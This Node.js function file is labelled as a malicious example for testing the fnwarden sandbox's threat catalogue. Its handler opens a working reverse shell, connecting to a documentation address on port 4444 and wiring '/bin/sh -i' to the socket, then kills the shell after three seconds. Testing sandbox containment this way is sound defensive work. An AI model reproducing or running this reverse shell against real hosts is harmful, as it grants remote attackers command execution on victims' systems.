// MALICIOUS example (threat catalogue §1c technique 15), Node.js variant: connects to
// 203.0.113.5:4444 (a documentation address that fnwarden's sandbox makes local to its own
// network namespace) and spawns `/bin/sh -i` with the socket as its stdin, stdout and stderr
// (libuv dup2()s the socket onto fds 0-2 in the child). The shell is killed after 3 s.
"use strict";
const net = require("node:net");
const { spawn } = require("node:child_process");

const C2 = { host: "203.0.113.5", port: 4444 };

exports.handler = () =>
  new Promise((resolve) => {
    const report = { c2: `${C2.host}:${C2.port}` };
    const sock = net.connect(C2);
    sock.pause(); // leave the socket's bytes to the shell
    const giveUp = setTimeout(() => sock.destroy(new Error("connect timeout")), 3000);
    sock.on("error", (e) => {
      clearTimeout(giveUp);
      report.connect = String(e.message || e);
      resolve(report);
    });
    sock.on("connect", () => {
      clearTimeout(giveUp);
      report.connect = "ok";
      let sh;
      try {
        sh = spawn("/bin/sh", ["-i"], { stdio: [sock, sock, sock] });
      } catch (e) {
        report.spawn = String(e.message || e);
        sock.destroy();
        return resolve(report);
      }
      report.shell_pid = sh.pid;
      const killer = setTimeout(() => sh.kill("SIGKILL"), 3000);
      sh.on("error", (e) => (report.spawn = String(e.message || e)));
      sh.on("close", (code, signal) => {
        clearTimeout(killer);
        report.shell_end = signal ? `signal ${signal}` : `exit ${code}`;
        sock.destroy();
        resolve(report);
      });
    });
  });
